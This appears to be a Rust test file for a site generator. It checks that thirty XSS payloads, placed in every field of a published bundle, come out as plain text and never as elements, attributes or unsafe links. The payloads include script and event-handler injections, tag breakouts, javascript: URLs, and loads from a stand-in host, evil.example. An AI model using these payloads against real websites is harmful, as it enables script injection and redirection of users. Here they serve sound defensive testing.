//! Hostile text in every field becomes text: no element, attribute or address is made of it.

use crate::support::{elements, published};
use lectern_site::{BaseUrl, Options};

/// Texts that have become markup or addresses elsewhere, by the way in which they do so.
const PAYLOADS: [&str; 30] = [
    // Elements.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><input name=q>",
    // The end of what a text stands in.
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    // CommonMark.
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    // Letters that are cut, joined or turned around.
    "\u{202e}<scr\u{0}ipt>alert(1)</scr\u{200b}ipt>",
];

/// A bundle whose every field is a payload.
fn bundle(payload: &str) -> String {
    let p = serde_json::Value::from(payload);
    serde_json::json!({
        "format": "statement-bundle", "version": 1, "title": p, "description": p, "license": p, "homepage": p,
        "publisher": {"name": p, "url": p}, "extra": p,
        "statements": [{
            "id": "x", "title": p, "kind": p, "authors": [{"name": p, "role": p, "organization": p, "url": p}],
            "organizations": [p], "recipients": [p], "signatories": [{"name": p, "role": p, "organization": p}],
            "event": {"name": p, "place": p}, "places": [p], "topics": [p], "language": p, "summary": p,
            "content": format!("{payload}\n\n> {payload}\n\n- {payload}\n\n    {payload}\n\n[a]({payload}) <b>"),
            "calls": [p], "source": {"name": p, "url": p, "archived_url": p, "sha256": p},
            "removed": [{"text": p, "reason": p}], "license": p, "rights": p,
            "identifiers": [{"scheme": p, "value": p}, {"scheme": "doi", "value": p}], "mood": {"x": p},
        }],
    })
    .to_string()
}

/// What the templates make of themselves.
const ELEMENTS: [&str; 53] = [
    "html",
    "head",
    "body",
    "meta",
    "title",
    "link",
    "script",
    "noscript",
    "div",
    "p",
    "a",
    "span",
    "header",
    "footer",
    "main",
    "nav",
    "section",
    "article",
    "aside",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "em",
    "strong",
    "code",
    "pre",
    "blockquote",
    "br",
    "hr",
    "details",
    "summary",
    "label",
    "input",
    "select",
    "option",
    "button",
    "bdi",
    "img",
    "table",
    "tr",
    "td",
    "th",
    "time",
    "lectern-reader",
];

const ATTRIBUTES: [&str; 38] = [
    "lang",
    "dir",
    "charset",
    "name",
    "content",
    "http-equiv",
    "rel",
    "href",
    "type",
    "title",
    "src",
    "id",
    "class",
    "tabindex",
    "aria-label",
    "aria-labelledby",
    "aria-current",
    "aria-hidden",
    "download",
    "start",
    "hreflang",
    "disabled",
    "placeholder",
    "size",
    "data-js",
    "data-wasm",
    "integrity",
    "crossorigin",
    "as",
    "for",
    "role",
    "open",
    "value",
    "alt",
    "async",
    "max-height",
    "query",
    "statement",
];

#[test]
fn no_payload_in_any_field_becomes_anything_but_text() {
    let base_url = BaseUrl::parse("https://example.org/").ok();
    let options = || Options { base_url: base_url.clone(), is_embeddable: true, ..Options::default() };
    let plain = scripts(&published(&bundle("plain"), options()));
    for payload in PAYLOADS {
        let files = published(&bundle(payload), options());
        assert_eq!(scripts(&files), plain, "{payload}");
        for (path, page) in files.iter().filter(|(path, _)| path.ends_with(".html")) {
            check(path, page, payload);
        }
        let text = elements(&files["s/x.html"]).into_iter().find(|one| one.name == "h1").unwrap().text;
        let shown = payload.replace('\0', "\u{fffd}");
        assert!(
            text == payload || text == shown || text == payload.replace('\0', ""),
            "{payload:?} is shown as {text:?}"
        );
    }
}

/// How many elements could run something, in all pages.
fn scripts(files: &std::collections::BTreeMap<String, Vec<u8>>) -> usize {
    let pages = files.iter().filter(|(path, _)| path.ends_with(".html"));
    pages.map(|(_, page)| elements(page).iter().filter(|one| one.name == "script").count()).sum()
}

fn check(path: &str, page: &[u8], payload: &str) {
    for element in elements(page) {
        assert!(ELEMENTS.contains(&element.name.as_str()), "{path}, {payload}: <{}>", element.name);
        for (name, value) in &element.attributes {
            assert!(ATTRIBUTES.contains(&name.as_str()), "{path}, {payload}: {name}={value}");
            if name == "href" || name == "src" {
                let scheme = value.split(['/', '?', '#']).next().unwrap().to_ascii_lowercase();
                let is_safe = !scheme.contains(':') || ["https:", "http:", "mailto:"].contains(&scheme.as_str());
                assert!(is_safe && !value.starts_with("//"), "{path}, {payload}: {name}={value}");
            }
            assert!(name != "src" || !value.contains("evil"), "{path}, {payload}: {name}={value}");
        }
        let is_data = element.get("type") == "application/ld+json";
        assert!(!is_data || serde_json::from_str::<serde_json::Value>(&element.text).is_ok(), "{path}, {payload}");
    }
}
